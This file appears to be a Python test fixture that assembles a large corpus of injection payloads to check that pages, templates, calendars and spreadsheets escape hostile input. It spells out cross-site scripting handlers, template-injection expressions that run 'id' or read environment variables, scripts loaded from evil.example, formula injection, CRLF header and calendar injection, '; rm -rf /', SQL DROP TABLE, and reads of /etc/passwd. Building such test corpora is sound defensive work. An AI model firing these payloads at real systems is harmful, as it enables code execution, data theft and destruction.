"""Hold more than three hundred texts that have hurt pages, templates, calendars and tables; an output shows them or leaves them out, and never obeys.

Whatever runs in a browser sets ``window.__pwned``; whatever a server evaluates would print `SUM`. Families follow the OWASP cheat sheets for cross-site
scripting and server-side template injection, Unicode's report on bidirectional text (UAX 9), RFC 5545 for calendars and spreadsheets' formulas.
"""

from itertools import product

from tests.maps.hostile import HOSTILE, RUN

__all__ = ["FAMILIES", "PAYLOADS", "SUM"]

SUM = "1787569"
"""1337 times 1337: no page of ours says this number by itself."""

EXPRESSIONS = (
    "1337*1337",
    "'1'~1337*1337",
    "request.application.__globals__",
    "config.items()",
    "self.__init__.__globals__.__builtins__.__import__('os').popen('id').read()",
    "cycler.__init__.__globals__.os.environ",
    "lipsum.__globals__['os'].popen('id').read()",
    "namespace.__init__.__globals__",
    "''.__class__.__mro__[1].__subclasses__()[0]",
    "range(1337*1337)|last",
    "dict(a=1337*1337).a",
    "joiner.__init__.__globals__",
)
SERVER_FRAMES = (
    "{{ %s }}",
    "{{%s}}",
    "{%% print(%s) %%}",
    "{%% set x = %s %%}{{ x }}",
    "${%s}",
    "#{%s}",
    "<%%= %s %%>",
    "[[${%s}]]",
    "*{%s}",
    "@(%s)",
    "{{=%s}}",
    "~[%s]",
)
SERVER = tuple(frame % expression for frame, expression in product(SERVER_FRAMES[:4], EXPRESSIONS)) + tuple(
    frame % "1337*1337" for frame in SERVER_FRAMES[4:]
)

TAGS = (
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "audio src=x",
    "iframe src=x",
    "input autofocus",
    "details open",
    "marquee",
    "object data=x",
    "embed src=x",
    "math",
)
HANDLERS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onpointerenter", "onanimationstart", "onbegin", "onstart")
MARKUP = tuple(f"<{tag} {handler}={RUN}>" for tag, handler in product(TAGS, HANDLERS))

CLOSERS = (
    "</script>",
    "</title>",
    "</style>",
    "</textarea>",
    "</svg>",
    "</text>",
    "</desc>",
    "</template>",
    "</noscript>",
    "-->",
    "]]>",
    "'>",
    '">',
    "`",
    "*/",
    "</p></li></ol>",
)
LEAVING = tuple(f"{closer}<script>{RUN}</script>" for closer in CLOSERS) + tuple(f'{closer}"onmouseover="{RUN}' for closer in CLOSERS[:4])

SCRIPTS = (
    f"${{{RUN}}}",
    f"`${{{RUN}}}`",
    f"\\`;{RUN}//",
    f"';{RUN}//",
    f'";{RUN}//',
    f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e",
    f"\\u003cscript\\u003e{RUN}",
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    f"<a href='javascript:{RUN}'>x</a>",
    f"<form action='javascript:{RUN}'><button>x</button></form>",
    f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><script href='data:,{RUN}'/></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{RUN[7:]}</script>'></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<template><script>{RUN}</script></template>",
    f"<link rel=import href='data:text/html,<script>{RUN}</script>'>",
    f"<style>@keyframes x{{}}</style><p style='animation-name:x' onanimationend='{RUN}'>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    "constructor.constructor('window.__pwned=1')()",
    "{{constructor.constructor('window.__pwned=1')()}}",
    f"<div x-data x-init='{RUN}'>",
    f"<div hx-on:load='{RUN}' hx-get='/ops'>",
    "toString.constructor.prototype.__pwned=1",
)

FOREIGN = tuple(
    text % "evil.example"
    for text in (
        "<img src=https://%s/p.gif>",
        "<link rel=stylesheet href=//%s/x.css>",
        "<script src=https://%s/x.js></script>",
        "<iframe src=https://%s></iframe>",
        "<base href=https://%s/>",
        "<meta http-equiv=refresh content='0;url=https://%s/'>",
        "@import url(//%s/x.css);",
        "url('https://%s/x.png')",
        "background:url(//%s/x)",
        "<object data=https://%s/x></object>",
        "<use href='https://%s/x.svg#a'/>",
        "<image href='https://%s/x.png'/>",
        "<?xml-stylesheet href='https://%s/x.xsl'?>",
        "<!DOCTYPE x [<!ENTITY e SYSTEM 'https://%s/'>]>&e;",
    )
)

BIDI = tuple(
    f"a{mark}b<c>{mark}d"
    for mark in "\u200e\u200f\u061c\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200b\u200c\u200d\u2060\ufeff"
)
CONTROL = tuple(
    f"a{chr(number)}b"
    for number in (*range(0x20), 0x7F, *range(0x80, 0xA0, 4), 0x2028, 0x2029, 0xFFFE, 0xFFFF, 0xE000, 0xD800, 0xDFFF, 0x10FFFF)
)
LONG = (
    "a" * 200_000,
    "W " * 20_000,
    "🧨" * 5_000,
    "e" + "\u0301" * 5_000,
    "<" * 20_000,
    "{{" * 10_000,
    "&amp;" * 10_000,
    "\u202e" * 5_000,
    "ﷺ" * 2_000,
    "$" * 5_000,
)

TABLES = (
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd",
    "@SUM(A1)",
    "\t=1+1",
    "\r\n=1+1",
    "x\r\nBEGIN:VEVENT\r\nSUMMARY:mine\r\nEND:VEVENT",
    "x\nATTACH:https://evil.example/x",
    "x\\nDTSTART:20260101T000000Z",
    "x;VALUE=URI:https://evil.example",
    "x\r\n DTEND:20260101T000000Z",
    'x","y":"z',
    '"}],"@type":"Person","x":[{"',
    "x\r\nSet-Cookie: a=b",
    "x\r\nContent-Type: text/html\r\n\r\n<p>",
    "$\\mathrm{x}$",
    "$x^{2}$ and $",
    "\\frac{1}{2}",
    "$$\\input{/etc/passwd}$$",
    "%s%n%x {0} {0.__class__} %(x)s",
    "../../../../etc/passwd",
    "file:///etc/passwd",
    "NULL",
    "null",
    "undefined",
    "NaN",
    "Infinity",
    "__proto__",
    "constructor",
    "; rm -rf /",
    "$(id)",
    "`id`",
    "'; DROP TABLE shipments; --",
    "\\",
    '"',
    "'",
    " ",
    "\N{NO-BREAK SPACE}",
)

FAMILIES: dict[str, tuple[str, ...]] = {
    "known": HOSTILE,
    "server templates": SERVER,
    "markup": MARKUP,
    "leaving": LEAVING,
    "scripts": SCRIPTS,
    "foreign": FOREIGN,
    "direction": BIDI,
    "control": CONTROL,
    "long": LONG,
    "tables and calendars": TABLES,
}
PAYLOADS: tuple[str, ...] = tuple(dict.fromkeys(text for family in FAMILIES.values() for text in family))
